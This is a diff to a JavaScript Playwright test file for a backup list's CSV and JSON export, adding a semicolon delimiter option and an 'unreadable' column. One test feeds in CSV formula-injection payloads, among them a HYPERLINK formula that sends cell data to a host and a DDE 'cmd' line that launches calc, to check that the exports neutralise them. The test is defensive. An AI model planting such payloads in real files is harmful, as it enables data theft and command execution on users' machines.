@@ -6,17 +6,17 @@ import { about, causes, essence, kind, lastDay, minute, moment, SHOWN, span, tra
 const COLUMNS = [
   'id', 'name', 'status', 'fail_reason', 'volume_id', 'is_incremental', 'size', 'object_count', 'data_timestamp', 'created_at',
   'updated_at', 'availability_zone', 'container', 'snapshot_id', 'has_dependent_backups', 'description', 'project_id', 'user_id',
-  'encryption_key_id', 'metadata', 'as_of', 'extent', 'filters',
+  'encryption_key_id', 'metadata', 'as_of', 'extent', 'filters', 'unreadable',
 ];
 /** What the service says of a backup, by the name of a column. */
 const KEYS = { project_id: 'os-backup-project-attr:project_id' };
 const TIMES = ['data_timestamp', 'created_at', 'updated_at'];
-const OWN = COLUMNS.slice(0, -3);
+const OWN = COLUMNS.slice(0, -4);
 
 /** RFC 4180, and nothing beside it: records end in CRLF, quotes stand around whole cells, and in them only doubled. */
-function readCsv(text) {
+function readCsv(text, delimiter = ',') {
   const records = [[]];
-  const plain = /[^",\r\n]*/y;
+  const plain = delimiter === ',' ? /[^",\r\n]*/y : /[^";\r\n]*/y;
   let at = 0;
   while (at < text.length) {
     let cell = '';
@@ -36,7 +36,7 @@ function readCsv(text) {
       at += cell.length;
     }
     records.at(-1).push({ cell, isQuoted });
-    if (text[at] === ',') at += 1;
+    if (text[at] === delimiter) at += 1;
     else if (text.startsWith('\r\n', at)) {
       at += 2;
       records.push([]);
@@ -60,9 +60,9 @@ async function save(page, name) {
 }
 
 /** A CSV file's rows as objects; a cell without anything, not even quotes, is null. */
-function tableOf({ text }) {
+function tableOf({ text }, delimiter) {
   expect(text.startsWith('\ufeff')).toBe(true);
-  const [head, ...records] = readCsv(text.slice(1));
+  const [head, ...records] = readCsv(text.slice(1), delimiter);
   expect(head.map(({ cell }) => cell)).toEqual(COLUMNS);
   expect(new Set(records.map((record) => record.length))).toEqual(new Set(records.length > 0 ? [COLUMNS.length] : []));
   const value = ({ cell, isQuoted }) => (cell === '' && !isQuoted ? null : cell);
@@ -80,13 +80,14 @@ function fields(row, names = OWN) {
   return Object.fromEntries(names.map((name) => [name, value(name)]));
 }
 
-const LEADS = /^[\s"\ufeff\0]*[=+\-@＝＋－＠]/;
-/** Without the apostrophes that keep a spreadsheet from running a text. */
-const unguarded = (cell) => cell.replace(/(^|[;\r\n])'(?=[\s"\ufeff\0]*[=+\-@＝＋－＠])/g, '$1').replace(/^'(?=[\0-\x1f])/, '');
+/** What a spreadsheet would run: a number with its sign is none. */
+const LEADS = /^[\s\ufeff\0]*([=@＝＋－＠]|[+-](?![\d ,.]*$))/;
+/** Without the apostrophe that keeps a spreadsheet from running a text: whatever begins with one has got one more. */
+const unguarded = (cell) => cell.replace(/^'/, '');
 
 /** The CSV file has exactly these backups, each with all that the service said of it. */
-function expectCsv(file, backups, { extent, filters }) {
-  const records = tableOf(file);
+function expectCsv(file, backups, { extent, filters, delimiter }) {
+  const records = tableOf(file, delimiter);
   const read = (name, cell) => {
     if (cell === null) return null;
     if (TIMES.includes(name)) return moment(cell);
@@ -94,7 +95,7 @@ function expectCsv(file, backups, { extent, filters }) {
   };
   const text = (name, value) => (value === null || name === 'metadata' || TIMES.includes(name) ? value : String(value));
   const each = (object, of) => Object.fromEntries(Object.entries(object).map(([name, value]) => [name, of(name, value)]));
-  const about = { as_of: records[0]?.as_of, extent, filters };
+  const about = { as_of: records[0]?.as_of, extent, filters, unreadable: null };
   expect(records.map((record) => each(record, read))).toEqual(backups.map((row) => ({ ...each(fields(row), text), ...about })));
   return records;
 }
@@ -182,7 +183,7 @@ test('the file of a page and the file of all say the same of a backup', async ({
 test('no cell of a spreadsheet is run, and no text is lost', async ({ page, demo, add }) => {
   const hostile = [
     '=HYPERLINK("http://example.com/?"&A1,"x")', '+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', ' \u00a0=1', '＝1', '＋1', '－1', '＠1', 'a;=1;b',
-    'a\n=1', 'a\r\n+1', 'a;"=1"', '"', '""', ',', 'plain', ' blanks ', 'ünï 💾', "nightly;=cmd|' /C calc'!A0",
+    'a\n=1', 'a\r\n+1', 'a;"=1"', '"', '""', ',', 'plain', ' blanks ', 'ünï 💾', "nightly;=cmd|' /C calc'!A0", "'=1", '-5', '+49 170 1234',
   ];
   for (const name of hostile) await add({ name, description: name, fail_reason: name, status: 'error', container: name, availability_zone: name });
   await open(page, '?limit=1000');
@@ -192,22 +193,45 @@ test('no cell of a spreadsheet is run, and no text is lost', async ({ page, demo
   expectCsv(csv, backups, { extent: 'page 1', filters: '' });
   const cells = readCsv(csv.text.slice(1)).flat().map(({ cell }) => cell);
   expect(cells).toContain("'=HYPERLINK(\"http://example.com/?\"&A1,\"x\")");
-  expect(cells.filter((cell) => LEADS.test(cell) || /^[\t\r\n\0]/.test(cell))).toEqual([]);
-  // Where lists are separated by semicolons, a spreadsheet cuts there and at line breaks, quotes or not.
-  expect(cells.filter((cell) => cell.split(/[;\r\n]/).some((part) => LEADS.test(part)))).toEqual([]);
+  expect(cells.filter((cell) => LEADS.test(cell))).toEqual([]);
+  // Nothing is changed inside a text, nor in front of a number.
+  for (const name of ['a;=1;b', 'a\r\n+1', "nightly;=cmd|' /C calc'!A0", '-5', '+49 170 1234']) expect(cells).toContain(name);
   expectJson(await save(page, 'This page as JSON'), backups, { extent: 'page 1', filters: '' });
+});
+
+test('semicolons are chosen once, for this browser, and both kinds of file say the same', async ({ page, demo, add }) => {
+  for (const name of ['a;b', '=1;2', 'a,b']) await add({ name, status: 'error' });
+  await open(page, '?limit=10');
+  const { backups } = await demo.list('limit=10');
+  const about = { extent: 'page 1', filters: '' };
+  expectCsv(await save(page, 'This page as CSV'), backups, about);
+  await page.getByText('Export', { exact: true }).click();
+  const choice = page.getByRole('combobox', { name: 'CSV delimiter' });
+  await expect(choice).toHaveValue('comma');
+  await choice.selectOption('semicolon');
+  await page.reload();
+  await settled(page);
+  const file = await save(page, 'This page as CSV');
+  expectCsv(file, backups, { ...about, delimiter: ';' });
+  expectCsv(await save(page, 'All that match as CSV'), await demo.all(), { extent: 'complete', filters: '', delimiter: ';' });
 });
 
 test.describe('of less than the whole', () => {
   test.use({ allowed: REFUSED });
 
-  test('rows that cannot be read are in no file, which says so', async ({ page, demo }) => {
+  test('rows that cannot be read are in the files as they came', async ({ page, demo }) => {
     await page.goto('./fault/oddrow/');
     await settled(page);
     await expect(links(page).first()).toBeVisible();
-    const backups = (await demo.list()).backups.filter((_, place) => place !== 1);
-    const file = await save(page, 'This page as JSON');
-    expectJson(file, backups, { extent: 'page 1, 2 unreadable rows left out', filters: '' });
+    const { backups } = await demo.list();
+    const { backups: read, extent: told, count } = JSON.parse((await save(page, 'This page as JSON')).text);
+    expect([told, count, read.length]).toEqual(['page 1, 2 unreadable rows', 51, 51]);
+    expect([read[1].id, read[1].status, read[1].links.length, read[3]]).toEqual([backups[1].id, 7, 2, 7]);
+    const records = tableOf(await save(page, 'This page as CSV'));
+    expect(records.filter(({ unreadable }) => unreadable !== null)).toHaveLength(2);
+    expect([records[1].id, records[1].name, records[1].status]).toEqual([backups[1].id, backups[1].name, null]);
+    expect(JSON.parse(records[1].unreadable).status).toBe(7);
+    expect([records[3].id, records[3].unreadable]).toEqual([null, '7']);
   });
 
   test('a file of a partial reading says so', async ({ page, demo }) => {
